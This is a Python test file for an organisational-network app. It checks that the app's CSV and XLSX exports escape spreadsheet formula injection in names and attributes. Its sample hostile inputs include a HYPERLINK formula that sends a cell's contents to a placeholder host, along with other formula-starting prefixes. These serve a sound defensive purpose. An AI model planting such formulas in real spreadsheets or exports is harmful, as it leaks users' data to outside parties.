"""Every export of the app is formula-safe: no cell of a CSV or XLSX starts a formula.

The CLI exports (``export --format csv``, ``ingest --report``, ``recommend --csv``) are
checked in ``tests/cli``; here the app's downloads, on an organisation whose names and
attributes are hostile.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from orgbridge.app.auth import User
from orgbridge.app.services import Services
from orgbridge.disclosure import FORMULA_PREFIXES
from orgbridge.graph import OrgGraph, Workspace
from tests.app.org import small_org

COORD = User("cora", "coordinator")
ANALYST = User("ann", "analyst")
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1)",
           "\tTab", "\rReturn"]  # fmt: skip


@pytest.fixture
def services(tmp_path: Path) -> Services:
    graph = small_org()
    people = graph.people.copy()
    people["name"] = [HOSTILE[i % len(HOSTILE)] + f" {i}" for i in range(len(people))]
    people["department"] = people["department"].replace({"Finance": "=Finance"})
    ws = Workspace.open(tmp_path)
    ws.save_graph(OrgGraph(people, graph.explicit_ties()), log={})
    return Services(ws, pseudonym_key=b"k")


def csv_cells(payload: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(payload.decode("utf-8"))) for cell in row]


def assert_safe(cells: list[object]) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]
    assert bad == []


def test_proposal_exports_cannot_run_code(services: Services) -> None:
    services.save_run(COORD, services.recommend(COORD, count=5))
    _, payload = services.export_proposals(COORD, "csv")
    cells = csv_cells(payload)
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'+1") for c in cells)
    assert_safe(cells)
    _, workbook = services.export_proposals(COORD, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert_safe(values)


@pytest.mark.parametrize("user", [COORD, ANALYST])
def test_broker_export_cannot_run_code(services: Services, user: User) -> None:
    _, payload = services.export_brokers(user, "department")
    cells = csv_cells(payload)
    assert "'=Finance" in cells or user is ANALYST
    assert_safe(cells)
